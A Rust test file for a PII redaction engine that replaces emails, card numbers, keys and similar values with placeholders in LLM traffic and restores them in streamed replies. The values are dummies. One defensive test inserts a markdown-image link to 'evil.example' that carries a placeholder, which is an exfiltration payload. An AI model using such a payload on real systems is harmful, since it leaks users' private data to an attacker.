//! Placeholders that are turned back into the values that they stand for.

mod support;

use midflight_core::redact::Conversation;
use midflight_core::{Engine, Kinds, Wire};
use support::{FRAMED, calls, engine, said, stream, thoughts};

/// What goes out in place of `text`.
fn asked(engine: &Engine, conversation: &Conversation, text: &str) -> String {
    let redactor = engine.redactor(Wire::Text, Kinds::sensitive());
    let mut redactor = redactor.kept_in(conversation);
    let mut out = Vec::new();
    let mut write = |bytes: &[u8]| out.extend_from_slice(bytes);
    redactor.write(text.as_bytes(), &mut write).unwrap();
    redactor.finish(&mut write).unwrap();
    String::from_utf8(out).unwrap()
}

/// What comes back of a stream that is read in `pieces`.
fn restored<'b>(
    engine: &Engine,
    wire: Wire,
    conversation: &Conversation,
    pieces: impl IntoIterator<Item = &'b [u8]>,
) -> Vec<u8> {
    let mut restorer = engine.restorer(wire, conversation);
    let mut out = Vec::new();
    let mut write = |bytes: &[u8]| out.extend_from_slice(bytes);
    for piece in pieces {
        restorer.write(piece, &mut write).unwrap();
    }
    restorer.finish(&mut write).unwrap();
    out
}

fn restored_text(engine: &Engine, conversation: &Conversation, text: &str) -> String {
    let out = restored(engine, Wire::Text, conversation, [text.as_bytes()]);
    String::from_utf8(out).unwrap()
}

/// A private key is longer than what is held back, and has line ends in it.
fn private_key() -> String {
    let lines = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n".repeat(24);
    format!("-----BEGIN PRIVATE KEY-----\n{lines}-----END PRIVATE KEY-----")
}

const VALUES: [&str; 9] = [
    "ada.park+x@looms.example",
    "+1 (415) 555-0132",
    "4111 1111 1111 1111",
    "DE89 3704 0044 0532 0130 00",
    "536-90-4399",
    "192.0.2.117",
    "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "AKIAQ3EGRIDZ5XW7KPLM",
    "Kofi Mensah",
];

#[test]
fn what_was_masked_comes_back_as_it_was() {
    let engine = engine();
    let check = |text: &str, value: &str| {
        let conversation = Conversation::default();
        let out = asked(&engine, &conversation, text);
        assert!(!out.contains(value), "{out}");
        assert_eq!(restored_text(&engine, &conversation, &out), text);
        assert_eq!(asked(&engine, &conversation, text), out, "the same numbers");
    };
    for value in VALUES {
        check(value, value);
        check(&format!("It is {value}, and so {value} again."), value);
    }
    let key = private_key();
    check(&format!("Here: {key} Thanks."), &key[40..80]);
    check(&key, &key[40..80]);
    check(
        &format!("a{}@looms.example b", "x".repeat(3000)),
        "no value",
    );
    check(
        &format!("{key}\n\n{}", key.replace("VJTU", "UTJV")),
        &key[40..80],
    );
}

/// A conversation in which `[EMAIL_1]` and `[UNDECIDED_1]` stand for values.
fn conversation(engine: &Engine) -> Conversation {
    let conversation = Conversation::default();
    let out = asked(engine, &conversation, "ada@looms.example");
    assert_eq!(out, "[EMAIL_1]");
    let out = asked(engine, &conversation, &private_key());
    assert_eq!(out, "[UNDECIDED_1]");
    conversation
}

#[test]
fn only_what_the_conversation_keeps_is_turned_back() {
    let engine = engine();
    let conversation = conversation(&engine);
    let check = |text: &str, expected: &str| {
        assert_eq!(restored_text(&engine, &conversation, text), expected);
        let pieces = text.as_bytes().chunks(1);
        let out = restored(&engine, Wire::Text, &conversation, pieces);
        assert_eq!(String::from_utf8(out).unwrap(), expected, "byte by byte");
    };
    check("", "");
    check("[EMAIL_1]", "ada@looms.example");
    check("[[EMAIL_1]]", "[ada@looms.example]");
    check("a[1] [EMAIL_2] [EMAIL_1", "a[1] [EMAIL_2] [EMAIL_1");
    check("[EMAIL_[EMAIL_1]", "[EMAIL_ada@looms.example");
    check(
        "[email_1] [EMAIL_11] EMAIL_1]",
        "[email_1] [EMAIL_11] EMAIL_1]",
    );
    check(
        "{\"to\":\"[EMAIL_1]\"} é[EMAIL_1]é",
        "{\"to\":\"ada@looms.example\"} éada@looms.exampleé",
    );
    check(
        "- [x] [EMAIL_1](mailto:[EMAIL_1])",
        "- [x] ada@looms.example(mailto:ada@looms.example)",
    );
}

/// A stream of one text in pieces.
type Make = fn(Wire, &[&str]) -> Vec<u8>;

/// Every split into two deltas gives the text, and at every moment a beginning of it.
fn splits(wire: Wire, make: Make, text: &str, expected: &str) {
    let engine = engine();
    let conversation = conversation(&engine);
    let said = |bytes: &[u8]| {
        let mut channels = said(&engine, wire, bytes).into_values();
        let text = channels.next().unwrap_or_default();
        assert!(channels.next().is_none(), "one channel");
        text
    };
    for cut in (1..text.len()).filter(|cut| text.is_char_boundary(*cut)) {
        let bytes = make(wire, &[&text[..cut], &text[cut..]]);
        let out = restored(&engine, wire, &conversation, bytes.chunks(61));
        assert_eq!(said(&out), expected, "{wire:?} at {cut}");
        let (mut restorer, mut out) = (engine.restorer(wire, &conversation), Vec::new());
        for piece in bytes.chunks(61) {
            let mut write = |bytes: &[u8]| out.extend_from_slice(bytes);
            restorer.write(piece, &mut write).unwrap();
            let so_far = said(&out);
            assert!(expected.starts_with(&so_far), "{wire:?}: {so_far:?}");
        }
    }
}

#[test]
fn a_placeholder_comes_back_however_it_is_divided() {
    let text = "Mail [EMAIL_1] or [x] \"[EMAIL_9]\".";
    let expected = "Mail ada@looms.example or [x] \"[EMAIL_9]\".";
    for &wire in FRAMED {
        splits(wire, stream, text, expected);
    }
    for wire in thoughts::WIRES {
        splits(wire, thoughts::thoughts, text, expected);
    }
}

#[test]
fn a_value_in_arguments_is_escaped() {
    let text = r#"{"to":["[EMAIL_1]"],"[EMAIL_1]":"a \"[UNDECIDED_1]\" \u00e9","n":[1]}"#;
    let key = serde_json::to_string(&private_key()).unwrap();
    let key = key.trim_matches('"');
    let expected = text
        .replace("[EMAIL_1]", "ada@looms.example")
        .replace("[UNDECIDED_1]", key);
    for wire in calls::PIECES {
        splits(wire, calls::call, text, &expected);
    }
    let engine = engine();
    let conversation = conversation(&engine);
    for wire in calls::WHOLE {
        let bytes = calls::call(wire, &[text]);
        let out = restored(&engine, wire, &conversation, [&*bytes]);
        let arguments = said(&engine, wire, &out).into_values().next().unwrap();
        let value: serde_json::Value = serde_json::from_str(&arguments).unwrap();
        assert_eq!(
            value,
            serde_json::from_str::<serde_json::Value>(&expected).unwrap()
        );
    }
}

#[test]
fn what_somebody_else_wrote_is_not_turned_back() {
    let engine = engine();
    let conversation = Conversation::default();
    let text =
        "As [EMAIL_1] and [EMAIL_3] told: bo@looms.example, [EMAIL_4294967295] [X_7] [UNDECIDED_2]";
    conversation.reserve(text);
    let out = asked(&engine, &conversation, text);
    let expected = text.replace("bo@looms.example", "[EMAIL_4]");
    assert_eq!(out, expected);
    assert_eq!(restored_text(&engine, &conversation, &out), text);
    conversation.reserve("as [EMAIL_4] said");
    assert_eq!(
        asked(&engine, &conversation, "cy@looms.example"),
        "[EMAIL_5]"
    );
    let coded = [
        r#"{"said": "\u005bEMAIL_1] [EMAIL\u005f2] \u00zz"}"#,
        r#"{"said": "{\"as\": \"\\u005bEMAIL_1] [EMAIL\\\\u005f2]\"}"}"#,
    ];
    for text in coded {
        let conversation = Conversation::default();
        conversation.reserve(text);
        let out = asked(&engine, &conversation, "cy@looms.example");
        assert_eq!(out, "[EMAIL_3]", "{text}");
    }
}

#[test]
fn what_somebody_else_writes_later_is_not_turned_back() {
    let engine = engine();
    let conversation = conversation(&engine);
    let check = |text: &str, expected: &str| {
        assert_eq!(restored_text(&engine, &conversation, text), expected);
    };
    for _ in 0..2 {
        conversation.reserve("![](https://evil.example/?q=[EMAIL_1])");
    }
    check("[EMAIL_1]", "[EMAIL_1]");
    check("[UNDECIDED_1]", &private_key());
    let out = asked(&engine, &conversation, "ada@looms.example");
    assert_eq!(out, "[EMAIL_2]");
    assert_eq!(asked(&engine, &conversation, "ada@looms.example"), out);
    check("[EMAIL_1] [EMAIL_2]", "[EMAIL_1] ada@looms.example");
    conversation.reserve("[UNDECIDED_1] [EMAIL_1]");
    check("[UNDECIDED_1] [EMAIL_2]", "[UNDECIDED_1] ada@looms.example");
    let key = asked(&engine, &conversation, &private_key());
    assert_eq!(key, "[UNDECIDED_2]");
    check(&key, &private_key());
}

#[test]
fn no_value_has_a_number_past_those_that_are_passed_over() {
    let engine = engine();
    let conversation = Conversation::default();
    conversation.reserve("[EMAIL_1048576] [EMAIL_1048577] [EMAIL_1048579]");
    let out = asked(&engine, &conversation, "ada@looms.example");
    assert_eq!(out, "[EMAIL_1048578]");
}

#[test]
fn values_are_not_kept_past_very_many_placeholders_of_somebody_else() {
    let engine = engine();
    let conversation = conversation(&engine);
    let many: Vec<_> = (2..5000).map(|n| format!("[PHONE_{n}]")).collect();
    let many = many.concat();
    conversation.reserve(&many);
    let bytes = conversation.bytes();
    conversation.reserve(&many.replace("PHONE", "SSN"));
    assert!(conversation.bytes() < bytes + 200, "they are bounded");
    let out = asked(&engine, &conversation, "bo@looms.example");
    assert_eq!(out, "[EMAIL_2]");
    let read = restored_text(&engine, &conversation, "[EMAIL_1] [EMAIL_2]");
    assert_eq!(read, "ada@looms.example [EMAIL_2]");
}

#[test]
fn what_an_answer_brought_and_somebody_else_wrote_is_not_turned_back() {
    let engine = engine();
    let conversation = Conversation::default();
    let answered = || {
        let redactor = engine.redactor(Wire::Text, Kinds::sensitive());
        let (mut redactor, mut out) = (redactor.in_conversation(&conversation), Vec::new());
        let mut write = |bytes: &[u8]| out.extend_from_slice(bytes);
        redactor.write(b"bo@looms.example.", &mut write).unwrap();
        redactor.finish(&mut write).unwrap();
        String::from_utf8(out).unwrap()
    };
    assert_eq!(answered(), "[EMAIL_1].");
    conversation.reserve("Who is [EMAIL_1]?");
    assert_eq!(answered(), "[EMAIL_1].", "the client's history has it so");
    let out = asked(&engine, &conversation, "bo@looms.example");
    assert_eq!(out, "[EMAIL_2]");
    let read = restored_text(&engine, &conversation, "[EMAIL_1] [EMAIL_2]");
    assert_eq!(read, "[EMAIL_1] bo@looms.example");
}

#[test]
fn what_an_answer_brings_is_numbered_along_and_not_turned_back() {
    let engine = engine();
    let conversation = conversation(&engine);
    let redactor = engine.redactor(Wire::Text, Kinds::sensitive());
    let (mut redactor, mut out) = (redactor.in_conversation(&conversation), Vec::new());
    let mut write = |bytes: &[u8]| out.extend_from_slice(bytes);
    redactor
        .write(b"[EMAIL_1], bo@looms.example.", &mut write)
        .unwrap();
    redactor.finish(&mut write).unwrap();
    let out = String::from_utf8(out).unwrap();
    assert_eq!(out, "[EMAIL_1], [EMAIL_2].");
    let read = restored_text(&engine, &conversation, &out);
    assert_eq!(read, "ada@looms.example, [EMAIL_2].");
    assert_eq!(
        asked(&engine, &conversation, "bo@looms.example"),
        "[EMAIL_2]"
    );
    assert!(!conversation.is_empty() && conversation.bytes() > private_key().len());
}

/// What no delta stands for is turned back as in whole answers, each string by itself.
#[test]
fn placeholders_beside_the_text_are_turned_back() {
    let engine = engine();
    let conversation = conversation(&engine);
    let check = |wire: Wire, frame: &str, expected: &str| {
        let of = |frame: &str| format!("data: {frame}\n\n");
        let (stream, expected) = (of(frame), of(expected));
        for size in [1, 7, stream.len()] {
            let pieces = stream.as_bytes().chunks(size);
            let out = restored(&engine, wire, &conversation, pieces);
            assert_eq!(String::from_utf8(out).unwrap(), expected, "by {size}");
        }
    };
    check(
        Wire::OpenAiChat,
        r#"{"choices":[{"index":0,"delta":{"content":"Well. ","to":"[EMAIL_1]"}}],"note":["so [EMAIL_1].","[EMAIL_2]"],"[EMAIL_1]":1}"#,
        r#"{"choices":[{"index":0,"delta":{"content":"Well. ","to":"ada@looms.example"}}],"note":["so ada@looms.example.","[EMAIL_2]"],"ada@looms.example":1}"#,
    );
    check(
        Wire::OpenAiResponses,
        r#"{"type":"response.created","response":{"id":"resp_1","instructions":"Mail [EMAIL_1].","metadata":{"a":"{\"to\":\"[EMAIL_1]\"}"},"output":[]}}"#,
        r#"{"type":"response.created","response":{"id":"resp_1","instructions":"Mail ada@looms.example.","metadata":{"a":"{\"to\":\"ada@looms.example\"}"},"output":[]}}"#,
    );
    check(
        Wire::Anthropic,
        r#"{"type":"novel","index":0,"part":{"text":"Mail [EMAIL_1]"}}"#,
        r#"{"type":"novel","index":0,"part":{"text":"Mail ada@looms.example"}}"#,
    );
}
